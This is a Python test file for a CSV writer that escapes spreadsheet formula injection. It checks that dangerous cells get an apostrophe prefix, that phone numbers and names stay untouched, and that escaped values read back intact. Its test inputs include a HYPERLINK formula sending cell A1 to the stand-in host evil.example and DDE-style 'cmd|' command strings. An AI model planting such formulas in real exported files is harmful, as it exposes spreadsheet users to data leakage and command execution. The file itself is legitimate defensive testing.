"""CSV that is safe to open in a spreadsheet, and that gives back what was written."""

from __future__ import annotations

import csv
import re
from io import StringIO
from pathlib import Path

import pytest
from hypothesis import given
from hypothesis import strategies as st

from frontdesk.core.csv_output import CsvWriter, as_text_cell, without_text_mark

REPOSITORY = Path(__file__).parents[2]
TEXTS = st.text(alphabet="=+-@\t\r\n' \uff1d\uff0b\uff101.5(aA!|,;\"")


@pytest.mark.parametrize(
    "text",
    [
        '=HYPERLINK("http://evil.example/?"&A1,"click")',
        "=1+1",
        "+cmd|' /C calc'!A0",
        "-2+3+cmd|' /C calc'!A0",
        "@SUM(A1)",
        "\t=1+1",
        "\r=1+1",
        "  =1+1",
        "\uff1d1+1",
        "'=1+1",
        "-",
        "+A1",
    ],
)
def test_what_a_spreadsheet_would_run_is_text(text: str) -> None:
    assert as_text_cell(text) == f"'{text}"


@pytest.mark.parametrize(
    "value",
    [
        -5,
        -5.25,
        "-5",
        "-1,240.50",
        "+61491570119",
        "+1 (404) 555-0142",
        "Ana",
        "a=b",
        "'s Gravenhage",
        "",
        None,
        "(5)",
    ],
)
def test_numbers_phones_and_names_stay_as_they_are(value: object) -> None:
    assert as_text_cell(value) == value


@given(TEXTS)
def test_no_text_begins_a_formula_and_each_comes_back(text: str) -> None:
    cell = as_text_cell(text)
    assert isinstance(cell, str)
    assert not cell.startswith(("=", "@", "\uff1d")) or cell.startswith("'")
    assert not re.match(r"[+\-]", cell) or not re.search(r"[A-Za-z!|=@]", cell)
    assert without_text_mark(cell) == text


@given(st.lists(TEXTS, min_size=1))
def test_rows_are_read_back(cells: list[str]) -> None:
    stream = StringIO(newline="")
    CsvWriter(stream).write(cells)
    stream.seek(0)
    assert [[without_text_mark(cell) for cell in row] for row in csv.reader(stream)] in ([cells], [[]])


def test_nothing_else_writes_csv() -> None:
    writes = re.compile(r"csv\.(writer|DictWriter)\(|\.to_csv\(|format csv", re.IGNORECASE)
    files = [
        file
        for folder in ("frontdesk", "webhooks", "pipelines", "dashboard")
        for file in (REPOSITORY / folder).rglob("*.py")
        if writes.search(file.read_text(encoding="utf-8"))
    ]
    assert files == [REPOSITORY / "frontdesk" / "core" / "csv_output.py"]
